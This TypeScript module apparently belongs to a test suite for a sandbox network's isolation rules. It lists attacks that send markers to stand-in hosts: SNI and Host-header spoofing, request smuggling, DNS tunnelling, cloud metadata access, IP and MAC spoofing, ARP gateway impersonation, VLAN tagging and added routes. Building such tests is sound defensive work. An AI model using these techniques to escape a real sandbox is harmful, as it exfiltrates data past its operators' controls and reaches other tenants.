/** Ways around the rules of a job's network. Each works on a plain bridge: its marker is seen on a wire it should not be on. */
import { arpReply, clientHello, dnsQuery, ethernet, icmpEcho, ipv4, synWithData, udp } from "./frames.ts";

/** Where the attacker sits: on the plain bridge, or in the network of a job. */
export interface Seat {
  readonly address: string;
  readonly mac: string;
  readonly gateway: string;
  readonly gatewayMac: string;
  readonly dns: string;
  /** A container of another job. */
  readonly other: { readonly address: string; readonly mac: string; readonly gateway: string };
}

export interface Attack {
  readonly what: string;
  /** Lines of the attacker, without their number. */
  readonly lines: (seat: Seat, marker: string) => readonly string[];
  /** Where its marker is seen when it works. */
  readonly where: "internet" | "host" | "other";
  /** Its bytes may reach the server that was allowed, and no other. */
  readonly toAllowed?: boolean;
  /** Of a container that has more than jobs get. */
  readonly as?: "raw" | "admin";
}

export const ALLOWED = "203.0.113.9";
const EVIL = "203.0.113.66";
const EVIL6 = "2001:db8:66::66";
const BROADCAST = "ff:ff:ff:ff:ff:ff";

const hex = (...pieces: readonly (string | Buffer)[]): string => pieces.map((piece) => Buffer.from(piece).toString("hex")).join("|");
const request = (marker: string, host: string, more = ""): string => `GET /${marker} HTTP/1.1\r\nHost: ${host}\r\n${more}\r\n`;
const tcp = (host: string, port: number, ...pieces: readonly (string | Buffer)[]): string =>
  `tcp ${host.includes(":") ? 6 : 4} ${host} ${port} ${hex(...pieces)}`;
const datagram = (host: string, port: number, bytes: string | Buffer): string => `udp 4 ${host} ${port} ${hex(bytes)}`;
const frame = (bytes: Buffer): string => `frame eth0 ${bytes.toString("hex")}`;
const sent = (seat: Seat, packet: Buffer, from = seat.mac): string => frame(ethernet(seat.gatewayMac, from, 0x0800, packet));

const web = (what: string, lines: Attack["lines"], more: Partial<Attack> = {}): Attack => ({ what, lines, where: "internet", ...more });
const raw = (what: string, lines: Attack["lines"], where: Attack["where"] = "internet"): Attack => ({ what, lines, where, as: "raw" });

export const ATTACKS: readonly Attack[] = [
  web("an address at port 80", (_, m) => [tcp(EVIL, 80, request(m, EVIL))]),
  web("an address at port 443, no TLS", (_, m) => [tcp(EVIL, 443, m)]),
  web("an address at port 22", (_, m) => [tcp(EVIL, 22, m)]),
  web("an address at a port that nobody listed", (_, m) => [tcp(EVIL, 8080, request(m, EVIL))]),
  web("an allowed name's address at another port", (_, m) => [tcp(ALLOWED, 8080, request(m, "allowed.example"))]),
  web("an evil host at its own address", (_, m) => [tcp(EVIL, 80, request(m, "evil.example"))]),
  web("an evil host at a shared, allowed address", (_, m) => [tcp(ALLOWED, 80, request(m, "evil.example"))]),
  web("an allowed host at an evil address", (_, m) => [tcp(EVIL, 80, request(m, "allowed.example"))], { toAllowed: true }),
  web("another host in a later request of the connection", (_, m) => [tcp(ALLOWED, 80, request("first", "allowed.example"), request(m, "evil.example"))]),
  web("another host in a request that was sent along", (_, m) => [tcp(ALLOWED, 80, `${request("first", "allowed.example")}${request(m, "evil.example")}`)]),
  web("an absolute address of an evil host", (_, m) => [tcp(ALLOWED, 80, `GET http://evil.example/${m} HTTP/1.1\r\nHost: allowed.example\r\n\r\n`)]),
  web("two hosts in one request", (_, m) => [tcp(ALLOWED, 80, request(m, "allowed.example", "Host: evil.example\r\n"))]),
  web("a host that is folded into a second line", (_, m) => [tcp(ALLOWED, 80, `GET /${m} HTTP/1.1\r\nX: a\r\nHost:\r\n evil.example\r\n\r\n`)]),
  web("a body of two lengths", (_, m) => [tcp(ALLOWED, 80, request(m, "allowed.example", "content-length: 4\r\ntransfer-encoding: chunked\r\n"))]),
  web("HTTP/2 without TLS, by its preface", (_, m) => [tcp(ALLOWED, 80, `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${m}`)]),
  web("HTTP/2 without TLS, by upgrade", (_, m) => [tcp(ALLOWED, 80, request(m, "allowed.example", "Upgrade: h2c\r\nConnection: Upgrade\r\n"))]),
  web("a tunnel asked of an allowed server", (_, m) => [tcp(ALLOWED, 80, `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nX: ${m}\r\n\r\n`)]),
  web("a tunnel asked of a proxy elsewhere", (_, m) => [tcp(EVIL, 3128, `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nX: ${m}\r\n\r\n`)]),
  web("TLS to an evil name at a shared address", (_, m) => [tcp(ALLOWED, 443, clientHello(m, "evil.example"))]),
  web("TLS to an evil name, its hello in pieces", (_, m) => {
    const hello = clientHello(m, "evil.example");
    return [tcp(ALLOWED, 443, hello.subarray(0, 3), hello.subarray(3, 60), hello.subarray(60))];
  }),
  web("TLS without a name", (_, m) => [tcp(ALLOWED, 443, clientHello(m, undefined))]),
  web("TLS with its name encrypted (ECH)", (_, m) => [tcp(ALLOWED, 443, clientHello(m, "allowed.example", [[0xfe0d, Buffer.alloc(200, 7)]]))]),
  web("TLS to an allowed name at an evil address", (_, m) => [tcp(EVIL, 443, clientHello(m, "allowed.example"))], { toAllowed: true }),
  web("DNS over TLS", (_, m) => [tcp("203.0.113.53", 853, clientHello(m, "dns.evil.example"))]),
  web("DNS over HTTPS", (_, m) => [tcp("203.0.113.53", 443, clientHello(m, "doh.evil.example"))]),
  web("DNS to another server", (_, m) => [datagram("203.0.113.53", 53, dnsQuery(`${m}.evil.example`, 1))]),
  web("DNS to another server, by TCP", (_, m) => [tcp("203.0.113.53", 53, dnsQuery(`${m}.evil.example`, 1))]),
  web("a tunnel in names of an evil zone", ({ dns }, m) => [datagram(dns, 53, dnsQuery(`${m}.evil.example`, 16))]),
  web("a tunnel in names below an allowed one", ({ dns }, m) => [datagram(dns, 53, dnsQuery(`${m}.allowed.example`, 16))]),
  web("QUIC", (_, m) => [datagram(EVIL, 443, m)]),
  web("NTP", (_, m) => [datagram(EVIL, 123, m)]),
  web("a datagram to any port", (_, m) => [datagram(EVIL, 9999, m)]),
  web("the metadata service", (_, m) => [tcp("169.254.169.254", 80, request(m, "169.254.169.254"))]),
  web("the metadata service by a name that was allowed", (_, m) => [tcp("169.254.169.254", 80, request(m, "rebind.wild.example"))]),
  web("a network of the house by a name that was allowed", (_, m) => [tcp("192.168.7.7", 80, request(m, "inner.wild.example"))]),
  web("the metadata service, by IPv6", (_, m) => [tcp("fd00:ec2::254", 80, request(m, "[fd00:ec2::254]"))]),
  web("an address of IPv6", (_, m) => [tcp(EVIL6, 80, request(m, `[${EVIL6}]`))]),
  { what: "a service of the host, by its address", where: "host", lines: (_, m) => [tcp("192.0.2.2", 8000, m)] },
  { what: "a service of the host, by the gateway", where: "host", lines: ({ gateway }, m) => [tcp(gateway, 8000, m)] },
  { what: "a datagram to the host, by the gateway", where: "host", lines: ({ gateway }, m) => [datagram(gateway, 8001, m)] },
  { what: "another job", where: "other", lines: ({ other }, m) => [tcp(other.address, 7000, m)] },
  { what: "another job, by datagram", where: "other", lines: ({ other }, m) => [datagram(other.address, 7001, m)] },
  { what: "the gateway of another job", where: "host", lines: ({ other }, m) => [datagram(other.gateway, 8002, m)] },
  raw("an echo request", (_, m) => [`raw 1 ${EVIL} ${icmpEcho(Buffer.from(m)).toString("hex")}`]),
  raw("GRE", (_, m) => [`raw 47 ${EVIL} ${hex(m)}`]),
  raw("SCTP", (_, m) => [`raw 132 ${EVIL} ${hex(m)}`]),
  raw("IP in IP", (seat, m) => [
    `raw 4 ${EVIL} ${ipv4({ from: seat.address, to: EVIL, protocol: 17, payload: udp(seat.address, EVIL, 9, Buffer.from(m)) }).toString("hex")}`,
  ]),
  raw("a first segment with data", (seat, m) => [
    sent(seat, ipv4({ from: seat.address, to: EVIL, protocol: 6, payload: synWithData(seat.address, EVIL, 80, Buffer.from(m)) })),
  ]),
  raw("a datagram in fragments", (seat, m) => {
    const whole = udp(seat.address, EVIL, 53, Buffer.from(m.padEnd(40, ".")));
    const part = (offset: number, payload: Buffer, more: boolean): string =>
      sent(seat, ipv4({ from: seat.address, to: EVIL, protocol: 17, payload, offset, more }));
    return [part(0, whole.subarray(0, 24), true), part(3, whole.subarray(24), false)];
  }),
  raw("a source address of nobody", (seat, m) => [
    sent(seat, ipv4({ from: "10.99.0.77", to: EVIL, protocol: 17, payload: udp("10.99.0.77", EVIL, 9, Buffer.from(m)) })),
  ]),
  raw("the source address of another job", (seat, m) => {
    const from = seat.other.address;
    return [sent(seat, ipv4({ from, to: EVIL, protocol: 17, payload: udp(from, EVIL, 9, Buffer.from(m)) }))];
  }),
  raw("a hardware address of nobody", (seat, m) => [
    sent(seat, ipv4({ from: seat.address, to: EVIL, protocol: 17, payload: udp(seat.address, EVIL, 9, Buffer.from(m)) }), "02:00:00:00:00:99"),
  ]),
  raw("ARP: I am the gateway", (seat, m) => [frame(ethernet(BROADCAST, seat.mac, 0x0806, arpReply(seat.mac, seat.gateway, Buffer.from(m))))], "other"),
  raw(
    "a datagram to everybody",
    (seat, m) => {
      const packet = ipv4({ from: seat.address, to: "255.255.255.255", protocol: 17, payload: udp(seat.address, "255.255.255.255", 9, Buffer.from(m)) });
      return [frame(ethernet(BROADCAST, seat.mac, 0x0800, packet))];
    },
    "other",
  ),
  raw(
    "a datagram to a group",
    (seat, m) => {
      const packet = ipv4({ from: seat.address, to: "224.0.0.251", protocol: 17, payload: udp(seat.address, "224.0.0.251", 5353, Buffer.from(m)) });
      return [frame(ethernet("01:00:5e:00:00:fb", seat.mac, 0x0800, packet))];
    },
    "other",
  ),
  raw("a frame of no known kind", (seat, m) => [frame(ethernet(BROADCAST, seat.mac, 0x88b5, Buffer.from(m)))], "other"),
  raw(
    "a frame with a VLAN tag",
    (seat, m) => {
      const packet = ipv4({ from: seat.address, to: seat.other.address, protocol: 17, payload: udp(seat.address, seat.other.address, 9, Buffer.from(m)) });
      return [frame(ethernet(seat.other.mac, seat.mac, 0x8100, Buffer.concat([Buffer.from([0, 5, 8, 0]), packet])))];
    },
    "other",
  ),
  {
    what: "another address of its subnet, given to itself",
    where: "internet",
    as: "admin",
    lines: ({ gateway }, m) => [
      `sh ip address add 10.99.0.78/32 dev eth0 && ip route add ${EVIL}/32 via ${gateway} src 10.99.0.78 && /attacker run '1 udp 4 ${EVIL} 9 ${hex(m)}' >/dev/null; ip route del ${EVIL}/32; true`,
    ],
  },
  {
    what: "a route of its own by another job",
    where: "other",
    as: "admin",
    lines: ({ other }, m) => [
      `sh ip route add 203.0.113.77/32 via ${other.address} dev eth0 onlink && /attacker run '1 udp 4 203.0.113.77 9 ${hex(m)}' >/dev/null; true`,
    ],
  },
];
